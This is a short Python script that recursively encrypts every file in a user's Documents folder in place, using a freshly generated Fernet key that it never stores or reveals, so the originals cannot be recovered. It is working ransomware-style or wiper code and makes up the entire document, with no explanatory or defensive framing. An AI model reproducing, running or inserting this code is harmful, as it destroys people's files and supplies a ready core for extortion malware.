import os
from cryptography.fernet import Fernet
k = Fernet.generate_key()
f = Fernet(k)
for root, _, files in os.walk(os.path.expanduser("~/Documents")):
    for name in files:
        p = os.path.join(root, name)
        data = open(p, "rb").read()
        open(p, "wb").write(f.encrypt(data))
